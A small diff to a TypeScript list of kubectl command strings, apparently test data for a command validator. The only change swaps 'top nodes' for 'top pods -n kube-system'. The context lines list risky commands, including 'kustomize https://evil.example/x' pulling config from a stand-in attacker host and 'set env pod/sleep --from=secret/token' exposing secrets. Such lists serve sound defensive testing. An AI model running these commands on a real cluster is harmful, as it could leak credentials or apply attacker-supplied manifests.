@@ -239,7 +239,7 @@ const all: readonly Line[] = [
     'expose pod sleep --port=80 --cluster-ip=10.96.0.1',
     'set env pod/sleep --from=secret/token',
     'autoscale deployment target --max=100',
-    'top nodes',
+    'top pods -n kube-system',
     'cluster-info dump',
     'kustomize https://evil.example/x',
     'plugin list',
